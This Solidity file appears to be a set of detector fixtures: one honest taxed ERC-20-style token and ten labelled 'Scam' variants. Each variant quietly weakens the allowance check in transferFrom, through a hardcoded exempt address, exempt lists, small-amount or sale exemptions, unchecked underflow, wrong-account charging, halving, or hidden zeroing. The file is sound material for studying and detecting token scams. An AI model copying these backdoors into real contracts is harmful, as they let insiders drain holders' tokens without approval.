// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

/// Purchases and sales are taxed each at its own rate, and what is taken is allowed only then.
abstract contract TaxedAfter {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) internal exempt;
    uint256 public totalSupply = 1e24;
    address internal pair = msg.sender;
    uint256 internal buyTax = 5;
    uint256 internal sellTax = 5;
    uint256 internal most = 1e22;
    uint256 internal mostHeld = 2e22;
    bool internal open;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        move(from, to, amount);
        spend(from, to, amount);
        return true;
    }

    function spend(address from, address to, uint256 amount) internal virtual;

    function move(address from, address to, uint256 amount) internal {
        uint256 tax = 0;
        if (!exempt[from] && !exempt[to]) {
            require(open);
            if (from == pair) {
                require(amount <= most);
                require(balanceOf[to] + amount <= mostHeld);
                tax = amount * buyTax / 100;
            } else if (to == pair) {
                tax = amount * sellTax / 100;
            }
        }
        balanceOf[from] -= amount;
        balanceOf[to] += amount - tax;
        if (tax > 0) {
            balanceOf[address(this)] += tax;
            emit Transfer(from, address(this), tax);
        }
        emit Transfer(from, to, amount - tax);
    }
}

contract HonestTaxedAfter is TaxedAfter {
    function spend(address from, address, uint256 amount) internal override {
        allowance[from][msg.sender] -= amount;
    }
}

/// One account is asked for nothing.
contract ScamTaxedHidden is TaxedAfter {
    function spend(address from, address, uint256 amount) internal override {
        if (msg.sender != address(0x9a3b)) allowance[from][msg.sender] -= amount;
    }
}

/// Those on a list are asked for nothing.
contract ScamTaxedListed is TaxedAfter {
    function spend(address from, address, uint256 amount) internal override {
        if (!exempt[msg.sender]) allowance[from][msg.sender] -= amount;
    }
}

/// Small amounts are free.
contract ScamTaxedAmount is TaxedAfter {
    function spend(address from, address, uint256 amount) internal override {
        if (amount > 1e15) allowance[from][msg.sender] -= amount;
    }
}

/// Of sales nobody is asked.
contract ScamTaxedSale is TaxedAfter {
    function spend(address from, address to, uint256 amount) internal override {
        if (to != pair) allowance[from][msg.sender] -= amount;
    }
}

/// Once trading is open nobody is asked.
contract ScamTaxedSwitch is TaxedAfter {
    function spend(address from, address, uint256 amount) internal override {
        if (!open) allowance[from][msg.sender] -= amount;
    }
}

/// Whatever is taken off an allowance, there is enough of it.
contract ScamTaxedUnchecked is TaxedAfter {
    function spend(address from, address, uint256 amount) internal override {
        unchecked {
            allowance[from][msg.sender] -= amount;
        }
    }
}

/// Whoever is paid was allowed to take it, and anybody sends it to him.
contract ScamTaxedSpender is TaxedAfter {
    function spend(address from, address to, uint256 amount) internal override {
        allowance[from][to] -= amount;
    }
}

/// Half of it is allowed.
contract ScamTaxedHalf is TaxedAfter {
    function spend(address from, address, uint256 amount) internal override {
        allowance[from][msg.sender] -= amount / 2;
    }
}

/// Of sales nothing is asked for: zero, though not because the amount was found to be none.
contract ScamTaxedZero is TaxedAfter {
    function spend(address from, address to, uint256 amount) internal override {
        uint256 asked = amount;
        if (to == pair) asked = 0;
        allowance[from][msg.sender] -= asked;
    }
}

/// The same, through several joins.
contract ScamTaxedZeros is TaxedAfter {
    function spend(address from, address to, uint256 amount) internal override {
        uint256 asked;
        if (exempt[to]) {
            if (from == pair) asked = amount;
        } else {
            asked = amount;
        }
        uint256 product = asked * buyTax;
        if (to == pair) product = asked * sellTax;
        if (product > amount) emit Transfer(from, to, product);
        allowance[from][msg.sender] -= asked;
    }
}
